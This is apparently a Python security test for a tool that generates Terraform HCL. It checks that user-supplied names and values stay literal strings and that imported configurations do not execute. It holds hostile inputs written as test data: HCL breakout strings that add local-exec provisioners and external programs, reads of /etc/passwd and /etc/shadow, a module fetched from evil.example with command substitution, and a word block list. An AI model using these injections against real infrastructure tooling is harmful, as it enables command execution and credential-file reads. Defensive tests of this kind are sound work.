#!/usr/bin/env python3
"""line_20_hcl.py - names and values that would be more than text in HCL: they are kept as the literal they are, or refused,
and none of them makes a block, an expression, a provisioner or a module of somebody else (ST-144; types of one's own:
tests/studio/trust.py; every kind of literal: src/apps/studio/hcl/hcl_hostile_test.c)."""
import os

import line
import check
import studio
from check import need

GROUP = "azurerm/core/resource_group"
DATA = "builtin/core/data"
TEXTS = ["${file(\"/etc/passwd\")}", "%{ for x in y }", "\"}\nresource \"null\" \"x\" {", "<<EOF\nx\nEOF", "\\", "\\\"",
         "a\r\nb", "\t", "'; drop table", "../../../../etc/passwd", "é 😀 ‮rtl", "#", "//", "/*", "*/", "${", "$${", "$",
         "\u0001\u007f", "{{key}}", "[redacted]", "$rg.instanceId", "</script><script>", "x" * 60000]
BLOCKS = ["\"\n}\nresource \"null_resource\" \"x\" {\n provisioner \"local-exec\" {\n command = \"touch /tmp/x\"\n }\n}\n#",
          "x\" { }\ndata \"external\" \"x\" { program = [\"sh\"] }\n#", "${templatefile(\"/etc/passwd\", {})}",
          "${data.external.x.result}", "<<-X\n${file(\"/etc/shadow\")}\nX\n", "%{ if true }x%{ endif }", "a\u2028b", "a\u0085b",
          "\" \nmodule \"m\" { source = \"git::https://evil.example/x\" }\n"]


def texts_stay_texts(place):
    """Each text, wherever a user can put one: kept byte for byte or refused, and never more than a literal."""
    client = place.client
    kept = 0
    for text in TEXTS:
        group = client.add(GROUP)
        for arguments in ({"label": text}, {"notes": text}, {"slug": text},
                          {"properties": {"name": text}}, {"properties": {"tags": {text: text}}},
                          {"terraformName": text}):
            given = {"instanceId": group, "properties": {}, **arguments}
            try:
                client.use("update_resource", **given)
                kept += 1
            except studio.Fault as fault:
                need(fault.code in ("INVALID_INPUT", "LIMIT_EXCEEDED"), f"{arguments}: {fault}")
        for config in ({"tags": {"k": text}}, {"region": text}, {"naming": {"org": text}},
                       {"backend": {"type": "s3", "config": {"bucket": text}}}, {"variableValues": {text: text}}):
            code = client.code_of("set_project_config", config=config)
            need(code in (None, "INVALID_INPUT", "LIMIT_EXCEEDED"), f"{str(config)[:80]}: {code}")
        files = client.use("generate_hcl", write=False)["files"]
        need(all("\x00" not in file for file in files.values()), "a NUL in a file")
        for name, file in files.items():
            need(not any(line.startswith('resource "null"') for line in file.splitlines()), f"{name}: {text!r} broke out")
    need(kept > len(TEXTS), f"only {kept} were kept")
    need(client.diagram()["revision"] > 0, "no answer")




def blocks(place):
    """What each text becomes, read again by a small reader of our own: strings are skipped, so what is left outside of
    them is what Terraform would obey."""
    client = place.client
    node = client.add(DATA)
    for text in BLOCKS:
        for given in ({"properties": {"input": text}}, {"label": text}, {"notes": text}, {"terraformName": text}):
            code = client.code_of("update_resource", **{"instanceId": node, "properties": {}, **given})
            need(code in (None, "INVALID_INPUT", "LIMIT_EXCEEDED"), f"{text[:40]!r}: {code}")
        for name, file in client.use("generate_hcl", write=False)["files"].items():
            outside = skip_strings(file)
            for word in ("provisioner", "external", "local-exec", "templatefile", "evil.example", "file(", "/etc/"):
                need(word not in outside, f"{name}: {word} of {text[:60]!r} is no text any more")


def skip_strings(text):
    """`text` without quoted strings and comments. An expression inside of a string (${ not $${) is kept."""
    out, at = [], 0
    while at < len(text):
        if text[at] == "#" or text.startswith("//", at):
            end = text.find("\n", at)
            at = len(text) if end < 0 else end
        elif text[at] == '"':
            at += 1
            while at < len(text) and text[at] != '"':
                if text[at] == "\\":
                    at += 2
                elif text.startswith(("$${", "%%{"), at):
                    at += 3
                elif text.startswith(("${", "%{"), at):
                    end = text.index("}", at)
                    out.append(text[at:end])
                    at = end
                else:
                    need(text[at] != "\n", "a string over two lines")
                    at += 1
            at += 1
        else:
            out.append(text[at])
            at += 1
    return "".join(out)


def foreign_modules(place):
    """A configuration of strangers that is imported names modules, and what runs programs: they are told, not run."""
    folder = os.path.join(place.folder, "strange")
    os.mkdir(folder)
    with open(os.path.join(folder, "main.tf"), "w", encoding="utf-8") as file:
        file.write('module "m" {\n  source = "git::https://evil.example/x?ref=$(touch x)"\n}\n'
                   'data "external" "e" {\n  program = ["touch", "' + place.folder + '/ran"]\n}\n'
                   'resource "terraform_data" "t" {\n  input = "kept"\n  provisioner "local-exec" {\n    command = "touch '
                   + place.folder + '/ran"\n  }\n}\n')
    code = place.client.code_of("import_terraform", source="config", path=folder)
    need(code is None or code.isupper(), f"{code}")
    need(not os.path.exists(os.path.join(place.folder, "ran")), "it ran")


def main():
    with studio.Served(timeout_s=120) as place:
        place.client.use("new_project", name="target", directoryPath=place.folder)
        with line.step("a reader that finds what is outside of strings (control)"):
            need("file(" in skip_strings('a = "x${file("y")}"') or "file(" in skip_strings('a = file("y")'), "blind")
            need("evil" not in skip_strings('a = "evil" # evil\n'), "sees strings")
        for name, part in (("texts stay texts", texts_stay_texts), ("blocks, expressions, heredocs", blocks),
                           ("modules and programs of an imported configuration", foreign_modules)):
            with line.step(name):
                part(place)
    line.end()


main()
